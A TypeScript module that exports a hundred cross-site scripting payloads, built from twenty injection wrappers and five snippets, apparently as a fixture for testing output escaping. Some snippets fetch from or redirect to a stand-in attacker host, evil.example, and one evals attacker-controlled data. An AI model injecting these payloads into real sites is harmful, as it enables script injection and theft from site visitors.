const frames = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `"><script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `"><img src=x onerror="${code}">`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<iframe src="javascript:${code}"></iframe>`,
  (code: string) => `<a href="javascript:${code}">x</a>`,
  (code: string) => `<body onload=${code}>`,
  (code: string) => `<details open ontoggle=${code}>`,
  (code: string) => `<input autofocus onfocus=${code}>`,
  (code: string) => `<math><mi xlink:href="data:x,<script>${code}</script>">`,
  (code: string) => `' onmouseover='${code}`,
  (code: string) => `" onmouseover="${code}`,
  (code: string) => `</title><script>${code}</script>`,
  (code: string) => `</style><script>${code}</script>`,
  (code: string) => `<!--<script>${code}//-->`,
  (code: string) => `{{constructor.constructor('${code}')()}}`,
  (code: string) => `\${${code}}`,
  (code: string) => `<ScRiPt>${code}</sCrIpT>`,
]
const codes = ['alert(1)', 'alert`1`', 'top.location=`//evil.example`', 'fetch(`//evil.example`)', 'eval(name)']

/** A hundred texts that would run in a page that forgets to escape them. */
export const xssPayloads: readonly string[] = frames.flatMap((frame) => codes.map(frame))
